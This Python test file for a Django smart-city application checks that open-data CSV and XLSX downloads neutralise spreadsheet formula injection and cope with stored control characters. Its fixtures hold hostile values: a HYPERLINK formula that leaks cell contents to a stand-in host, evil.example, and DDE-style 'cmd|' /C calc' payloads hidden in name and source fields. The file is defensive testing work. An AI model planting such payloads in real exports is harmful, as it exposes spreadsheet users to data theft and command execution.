"""Open data and chart downloads: imported names never become live formulas,
and a control character already stored never breaks a download."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test import Client
from openpyxl import load_workbook

from smartcity.analytics.tables import Table
from smartcity.registry.models import Subject
from smartcity.registry.services import import_decisions

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"스마트 주차")'
HOLDER = "@SUM(1+1)*cmd|' /C calc'!A0"
FIELD = "+transport"
SOURCE = "-2+3+cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_service(municipal_register: None) -> None:
    header = "kind,subject,subject_code,size_class,decision,decided_on,field,holder,note,source\n"
    quoted = NAME.replace('"', '""')
    row = f'service,"{quoted}",,,new,2024-09-30,{FIELD},"{HOLDER}",,{SOURCE}\n'
    result = import_decisions(data=(header + row).encode(), file_name="hostile.csv")
    assert result.ok, result.errors


def _csv(client: Client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("dataset", ["subjects", "decisions"])
def test_open_data_csv_cells_never_start_a_formula(hostile_service, client, dataset) -> None:  # type: ignore[no-untyped-def]
    rows = _csv(client, f"/analytics/open-data/{dataset}.csv")
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert "'" + NAME in cells and "'" + HOLDER in cells


@pytest.mark.parametrize("dataset", ["subjects", "decisions"])
def test_open_data_xlsx_holds_text_not_formulas(hostile_service, client, dataset) -> None:  # type: ignore[no-untyped-def]
    response = client.get(f"/analytics/open-data/{dataset}.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert NAME in texts and HOLDER in texts  # the data itself is unchanged
    assert all(c.quotePrefix for c in cells if c.value in {NAME, HOLDER, FIELD, SOURCE})


def test_a_control_character_already_stored_does_not_break_the_xlsx(  # type: ignore[no-untyped-def]
    municipal_register, client
) -> None:
    # Stored before imports refused them (NUL only reaches SQLite; PostgreSQL refuses it).
    name = "가람\x00시 \x0b버스" if connection.vendor == "sqlite" else "가람\x01시 \x0b버스"
    Subject.objects.create(kind="service", name=name, field="transport", holder="가람시")
    response = client.get("/analytics/open-data/subjects.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert "가람\ufffd시 \ufffd버스" in {c.value for row in sheet.iter_rows() for c in row}


def test_dashboard_table_csv_neutralises_labels() -> None:
    table = Table("areas", "분야", ["=분야", "점수"], [[NAME, 3], ["-12", "@x"]])
    rows = list(csv.reader(io.StringIO(table.csv())))
    assert rows == [["'=분야", "점수"], ["'" + NAME, "3"], ["-12", "'@x"]]
